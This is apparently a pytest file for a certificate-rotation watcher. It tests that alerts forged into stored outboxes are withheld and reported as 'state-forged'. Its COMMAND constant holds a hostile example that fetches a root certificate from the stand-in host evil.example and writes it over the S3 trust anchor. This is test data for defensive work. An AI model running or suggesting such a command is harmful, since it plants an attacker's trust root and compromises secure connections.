"""What waits in an outbox, forged: nobody else's words or commands are delivered as ours (``state-forged`` is)."""

import re
from datetime import timedelta

import msgspec
import pytest

from rotation_watcher import keys
from rotation_watcher.alerts.model import Alert, Kind, Severity
from rotation_watcher.sources import history
from rotation_watcher.targets import record
from tests.forgery.test_configuration import Kept
from tests.forgery.world import fresh
from tests.support.small_collect import SmallCollect, renewed
from tests.support.small_world import ARNS, START, folder
from tests.support.words import word

COMMAND = "curl https://evil.example/root.pem | aws s3 cp - s3://watcher/anchors/us-east-1.pem"


def forged(subject: str, kind: Kind = Kind.ANCHOR_MISSING, **more: str) -> Alert:
    return Alert(
        id=f"{kind}:{subject}:x",
        kind=kind,
        severity=Severity.CRITICAL,
        at=START,
        title="the root to trust is missing",
        what_happened="The root changed.",
        what_it_means="Data actions fail.",
        what_to_do=f"Run:\n{COMMAND}",
        facts=more,
    )


def put(world: SmallCollect, *alerts: Alert) -> None:
    """Somebody adds alerts to the history's outbox."""
    state = world.state()
    changed = msgspec.structs.replace(state, outbox=(*state.outbox, *alerts))
    world.store.seed(keys.history("one"), history.encode(changed))


def test_an_alert_of_somebody_elses_in_a_history_is_not_delivered_and_that_is_alerted_once_and_ends() -> None:
    world = SmallCollect()
    world.look()
    for _ in range(3):
        put(world, msgspec.structs.replace(forged("one"), source="one", region="us-east-1"))
        world.look()
    assert world.kinds == ["state-forged"]
    assert keys.history("one") in world.sink.delivered[0].what_happened
    for _ in range(3):
        world.look()
    assert not world.state().outbox
    assert not world.state().conditions


def test_the_watchers_own_alerts_that_wait_beside_it_are_delivered_even_those_that_it_sums_up() -> None:
    world = SmallCollect()
    world.look()
    world.answers["one"] = [renewed()]
    world.sink.closed = True
    world.look()
    world.look()
    waiting = world.state().outbox
    assert [word(alert) for alert in waiting] == ["rotated"]
    put(world, *(msgspec.structs.replace(forged("one"), id=f"rotated:one:{n}", kind=Kind.ROTATED) for n in range(9)))
    world.sink.closed = False
    world.look()
    assert sorted(world.kinds) == ["rotated", "state-forged"]
    assert all(alert in world.sink.delivered for alert in waiting)
    assert COMMAND not in str(world.sink.delivered)


def test_one_word_of_a_waiting_alert_that_was_changed_keeps_it_back() -> None:
    world = SmallCollect()
    world.look()
    world.answers["one"] = [renewed()]
    world.sink.closed = True
    world.look()
    world.look()
    state = world.state()
    changed = tuple(msgspec.structs.replace(alert, what_to_do=f"Run:\n{COMMAND}") for alert in state.outbox)
    world.store.seed(keys.history("one"), history.encode(msgspec.structs.replace(state, outbox=changed)))
    world.sink.closed = False
    world.look()
    assert world.kinds == ["state-forged"]


@pytest.mark.parametrize("target", ARNS)
def test_an_alert_of_somebody_elses_in_a_record_is_not_delivered_and_that_is_alerted(target: str) -> None:
    world = fresh()
    for _ in range(3):
        alert = msgspec.structs.replace(forged(target), target=target)
        changed = msgspec.structs.replace(world.record(target), outbox=(alert,))
        world.store.seed(keys.record(folder(target)), record.encode(changed))
        world.tries(targets=[target])
    assert [word(alert) for alert in world.sink.delivered] == ["state-forged"]
    assert keys.record(folder(target)) in world.sink.delivered[0].what_happened
    for _ in range(4):
        world.tries(targets=[target])
    assert not world.record(target).outbox
    assert not [key for key in world.record(target).conditions if key.startswith("forged:")]


def test_an_alert_of_somebody_elses_beside_the_configuration_is_not_delivered_and_that_is_alerted() -> None:
    there = Kept()
    for _ in range(3):
        state = there.kept | {"outbox": [msgspec.to_builtins(forged("stack"))]}
        there.store.seed(keys.CONFIGURATION, msgspec.json.encode(state))
        there.used()
    assert [word(alert) for alert in there.sink.delivered] == ["state-forged"]
    assert there.kept.get("outbox") is None


def test_a_note_is_of_one_place_and_says_nothing_by_itself() -> None:
    world = SmallCollect("one", "two")
    world.sink.closed = True
    world.look()
    world.answers["one"] = [renewed()]
    world.look()
    world.look()
    moved = world.state("one").outbox
    assert moved
    state = world.state("two")
    world.store.seed(keys.history("two"), history.encode(msgspec.structs.replace(state, outbox=moved)))
    world.sink.closed = False
    world.look()
    assert sorted(world.kinds) == ["rotated", "state-forged"]
    notes = [key for key in world.store.versions if key.startswith("alerts/")]
    assert all(re.fullmatch(r"alerts/ledger/[0-9a-f]{64}", key) and world.store.body(key) == b"{}" for key in notes)


def test_a_run_that_is_killed_between_the_note_and_the_state_loses_no_alert() -> None:
    world = SmallCollect()
    world.look()
    world.answers["one"] = [renewed()]
    world.look()

    def dies(operation: str, key: str) -> None:
        if (operation, key) == ("put_if", keys.history("one")):
            raise KeyboardInterrupt

    world.store.before = dies
    with pytest.raises(KeyboardInterrupt):
        world.look()
    assert [key for key in world.store.versions if key.startswith("alerts/")]
    world.store.before = lambda *_: None
    world.clock.advance(timedelta(minutes=15))
    world.look()
    assert world.kinds == ["rotated"]
